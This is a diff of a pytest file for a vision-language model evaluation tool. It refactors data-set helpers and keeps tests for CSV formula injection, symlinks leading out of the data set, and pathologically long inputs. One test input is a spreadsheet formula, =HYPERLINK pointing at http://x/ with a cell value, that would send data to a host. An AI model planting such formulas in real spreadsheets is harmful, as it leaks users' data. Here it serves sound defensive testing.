@@ -10,7 +10,7 @@ import numpy as np
 import pytest
 import torch
 from PIL import Image
-from tiny import contents
+from tiny import contents, write_set
 from carve_nb.attention.vlm import VLM
 from carve_nb.cli.main import main
 from carve_nb.core import io as files
@@ -19,26 +19,7 @@ from carve_nb.core.io import save_with_digest
 from carve_nb.runs.report import load_maps
 from carve_nb.runs.store import read_run, to_line
 
-@pytest.fixture
-def shell(capsys):
-    "shell('eval', ...) -> status, standard output, what was said beside it on one line"
-    def run(*words):
-        status = main([*map(str, words)])
-        said = capsys.readouterr()
-        return status, said.out, ' '.join(said.err.split())
-    return run
-
-
-def write_set(folder, **change):
-    "Three questions about one image"
-    folder.mkdir(exist_ok=True)
-    Image.linear_gradient('L').resize((60, 50)).convert('RGB').save(folder/'a.png')
-    rows = [dict(id=i, image='a.png', question=f'What digit is on the {i} star?', answer='5', **change)
-        for i in ('red', 'blue', 'green')]
-    (folder/'q.jsonl').write_text(''.join(json.dumps(r) + '\n' for r in rows))
-    return folder
-
-
+STARS = [dict(id=i, question=f'What digit is on the {i} star?', answer='5') for i in ('red', 'blue', 'green')]
 SHORT = '--model', 'carve-tiny', '--max-new-tokens', 2, '--quiet'
 
 
@@ -46,7 +27,7 @@ SHORT = '--model', 'carve-tiny', '--max-new-tokens', 2, '--quiet'
 def made(tmp_path_factory):
     "A data set, and a run of it"
     root = tmp_path_factory.mktemp('kept')
-    write_set(root/'D')
+    write_set(root/'D', STARS)
     assert main([*map(str, ('eval', root/'D', '--methods', 'none,carve', '--maps', '--out', root/'R', *SHORT))]) == 0
     return root/'D', root/'R'
 
@@ -126,11 +107,8 @@ def test_a_lost_protocol_is_no_empty_folder(again, shell):
 @pytest.mark.case(57)
 def test_formulas_in_a_table_of_results(tmp_path, shell):
     "A spreadsheet finds texts where a set has formulas; the lines keep them as they are"
-    (tmp_path/'D').mkdir()
-    Image.new('RGB', (60, 50), 'red').save(tmp_path/'D'/'a.png')
     asked = dict(zip(('=1+1', '+2', '@SUM(A1)'), ('=HYPERLINK("http://x/?"&A1,"click")', '-2+3 is?', '\t=4')))
-    (tmp_path/'D'/'q.jsonl').write_text(''.join(json.dumps(dict(id=i, image='a.png', question=q, answer='-5')) + '\n'
-        for i, q in asked.items()))
+    write_set(tmp_path/'D', [dict(id=i, question=q, answer='-5') for i, q in asked.items()])
     assert shell('eval', tmp_path/'D', '--methods', 'none', '--out', tmp_path/'R', *SHORT)[0] == 0
     rows = list(csv.DictReader(io.StringIO((tmp_path/'R'/'results.csv').read_text())))
     assert ([r['id'] for r in rows] == ["'=1+1", '+2', "'@SUM(A1)"]
@@ -221,7 +199,7 @@ def test_damaged_profiles(change, tmp_path, shell, monkeypatch):
 @pytest.fixture
 def linked(tmp_path):
     "A set in which a name is a link to a file that is nobody's business"
-    set_ = write_set(tmp_path/'D')
+    set_ = write_set(tmp_path/'D', STARS)
     Image.new('RGB', (60, 50), 'red').save(tmp_path/'secret.png')
     return set_
 
@@ -254,9 +232,7 @@ def test_questions_that_are_a_link_out_of_their_set(linked, shell, tmp_path, nam
     'A.x' + ' '*200_000 + 'y\nB. z', 'A.' + '\n'*200_000, '(A) x\n'*4000, 'a\n' + ' \n'*100_000])
 def test_odd_questions_take_no_time(tmp_path, shell, question):
     "A row of 200 kB: refused in words, as its tokens do not fit; with a pattern that tries all ways this would not end"
-    (tmp_path/'D').mkdir()
-    Image.new('RGB', (60, 50), 'red').save(tmp_path/'D'/'a.png')
-    (tmp_path/'D'/'q.jsonl').write_text(json.dumps(dict(image='a.png', question=question, answer='x')) + '\n')
+    write_set(tmp_path/'D', [dict(question=question, answer='x')])
     status, _, said = shell('eval', tmp_path/'D', '--methods', 'none', '--out', tmp_path/'R', *SHORT)
     assert status in (0, 1, 2) and 'Traceback' not in said, said
 
